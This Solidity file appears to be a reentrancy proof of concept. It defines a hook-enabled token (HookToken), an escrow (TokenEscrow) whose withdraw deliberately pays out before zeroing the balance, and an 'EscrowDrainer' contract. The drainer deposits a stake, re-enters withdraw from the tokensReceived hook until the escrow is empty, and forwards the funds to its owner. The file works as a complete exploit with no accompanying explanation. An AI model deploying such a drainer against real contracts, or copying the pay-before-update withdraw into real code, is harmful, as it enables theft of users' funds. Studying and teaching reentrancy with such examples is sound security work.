// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

/// @notice ERC-777-style recipient hook (opt-in, like an ERC-1820 registration).
interface ITokensRecipient {
    function tokensReceived(address operator, address from, address to, uint256 amount) external;
}

/// @notice An ERC-20 with ERC-777-style hooks: a recipient that opted in is called after
///         every transfer it receives. Written for solc 0.7 (no checked arithmetic).
contract HookToken {
    string public constant name = "Hook Token";
    string public constant symbol = "HOOK";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public hookEnabled;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == owner, "HookToken: not owner");
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function setHook(bool enabled) external {
        hookEnabled[msg.sender] = enabled;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        require(allowed >= amount, "HookToken: allowance");
        if (allowed != uint256(-1)) allowance[from][msg.sender] = allowed - amount;
        _move(msg.sender, from, to, amount);
        return true;
    }

    function _move(address operator, address from, address to, uint256 amount) internal {
        require(balanceOf[from] >= amount, "HookToken: balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        if (hookEnabled[to]) ITokensRecipient(to).tokensReceived(operator, from, to, amount);
    }
}

/// @notice Holds users' HOOK; withdraw pays out before clearing the balance.
contract TokenEscrow {
    HookToken public token;
    mapping(address => uint256) public balances;

    event Deposited(address indexed user, uint256 amount);
    event Withdrawn(address indexed user, uint256 amount);

    constructor(HookToken token_) {
        token = token_;
    }

    function deposit(uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount), "TokenEscrow: pull");
        balances[msg.sender] += amount;
        emit Deposited(msg.sender, amount);
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "TokenEscrow: nothing");
        require(token.transfer(msg.sender, amount), "TokenEscrow: push");
        balances[msg.sender] = 0;
        emit Withdrawn(msg.sender, amount);
    }
}

/// @notice Attacker: deposits a stake and re-enters withdraw from the tokensReceived hook.
contract EscrowDrainer is ITokensRecipient {
    HookToken private token;
    TokenEscrow private escrow;
    address private owner;
    uint256 private stake;

    constructor(HookToken token_, TokenEscrow escrow_) {
        token = token_;
        escrow = escrow_;
        owner = msg.sender;
        token_.setHook(true);
    }

    function attack(uint256 stake_) external {
        stake = stake_;
        token.approve(address(escrow), stake_);
        escrow.deposit(stake_);
        escrow.withdraw();
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function tokensReceived(address, address from, address, uint256) external override {
        if (msg.sender == address(token) && from == address(escrow)) {
            if (token.balanceOf(address(escrow)) >= stake) escrow.withdraw();
        }
    }
}
